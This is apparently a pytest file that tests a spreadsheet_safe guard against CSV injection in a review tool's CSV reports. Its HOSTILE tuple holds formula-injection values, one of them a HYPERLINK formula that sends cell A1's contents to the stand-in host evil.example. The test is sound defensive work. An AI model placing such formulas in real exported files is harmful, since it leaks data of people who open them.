"""No cell Etki writes for a spreadsheet runs as a formula (issue 30 item 10), also in a
spreadsheet that splits the line on ``;`` (Excel and LibreOffice in a Turkish or German
locale) or a tab: one guard, :func:`etki.text.spreadsheet_safe` (OWASP "CSV Injection"),
and every text cell quoted. A real project folder without a reviewer list, a real SQLite
store, the ``etki`` command line."""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
from pathlib import Path

import pytest
import yaml as pyyaml

from tests.cli_support import run_etki

ROOT = Path(__file__).resolve().parents[1]
SAMPLE = ROOT / "sample_project"

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # OWASP "CSV Injection"

HOSTILE = (
    ";=1+1",
    'Ali;=HYPERLINK("https://evil.example/?x="&A1;"click")',
    "Ayşe,+49 30 1234",
    "@SUM(A1:A9)",
    "-2+3",
)


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+49", "'+49"),
        ("-2", "'-2"),
        ("@cmd", "'@cmd"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        (";=1+1", "';=1+1"),
        ("a;@SUM(A1)", "'a;@SUM(A1)"),
        ("a,-1", "'a,-1"),
        ("a\t+1", "'a\t+1"),
        ("Ayşe Yılmaz", "Ayşe Yılmaz"),
        ("a; =1", "a; =1"),  # a space after the separator: text in every spreadsheet
        ("a=b, c-d", "a=b, c-d"),
        ("", ""),
    ],
)
def test_spreadsheet_safe(text: str, safe: str) -> None:
    from etki.text import spreadsheet_safe

    assert spreadsheet_safe(text) == safe


def _project_without_reviewers(tmp: Path) -> Path:
    folder = tmp / "project"
    shutil.copytree(SAMPLE, folder)
    yaml = (folder / "etki.yaml").read_text(encoding="utf-8")
    yaml = re.sub(r"\nreviewers:\n(?:  .*\n)+", "\n", yaml)
    assert "reviewers" not in pyyaml.safe_load(yaml)
    (folder / "etki.yaml").write_text(yaml, encoding="utf-8")
    return folder


def _spreadsheet_cells(text: str) -> list[str]:
    """Every cell of ``text`` as a spreadsheet would read it, splitting on a comma, a
    semicolon or a tab (each honouring double quotes, as Excel and LibreOffice do)."""
    cells: list[str] = []
    for delimiter in (",", ";", "\t"):
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            cells += row
    return cells


def test_reviewer_names_never_become_formulas_in_the_csv_report(tmp_path: Path) -> None:
    """A project without a reviewer list lets anyone rule under any name: ``;=1+1``
    went into the CSV report bare, and a spreadsheet splitting on ``;`` read ``=1+1`` as
    a formula. Now every cell, read with any of the three separators, starts as text."""
    folder = _project_without_reviewers(tmp_path)
    env = {
        **os.environ,
        "ETKI_DB_URL": f"sqlite:///{tmp_path}/etki.db",
        "ETKI_WIKI_DIR": "",
        "ETKI_REVIEWER": "setup",
    }
    done = run_etki(["init", str(folder)], env=env, cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    cases = run_etki(["queue", "--project", "demo"], env=env, cwd=tmp_path).stdout.split()
    case_ids = [w for w in cases if w.startswith("req-demo-")][: len(HOSTILE)]
    for name, case_id in zip(HOSTILE, case_ids, strict=True):
        ruled = run_etki(
            ["rule", case_id, "approve"], env={**env, "ETKI_REVIEWER": name}, cwd=tmp_path
        )
        assert ruled.returncode == 0, ruled.stderr
    outputs = []
    for more in ((), ("--report", "rulings_by_reviewer")):
        report = ["report", "--project", "demo", "--format", "csv", *more]
        done = run_etki(report, env=env, cwd=tmp_path)
        assert done.returncode == 0, done.stderr
        outputs.append(done.stdout)
    for out in outputs:
        rows = list(csv.reader(io.StringIO(out, newline="")))
        names = {r[0] for r in rows if r}
        assert {"'" + n for n in HOSTILE} <= names, names  # read back with the guard
        cells = _spreadsheet_cells(out)
        dangerous = [c for c in cells if c.startswith(FORMULA_STARTS)]
        assert dangerous == [], dangerous
    assert re.search(r'\r\n"\';=1\+1",(\d+,){4}\d+\r\n', outputs[1]), outputs[1]
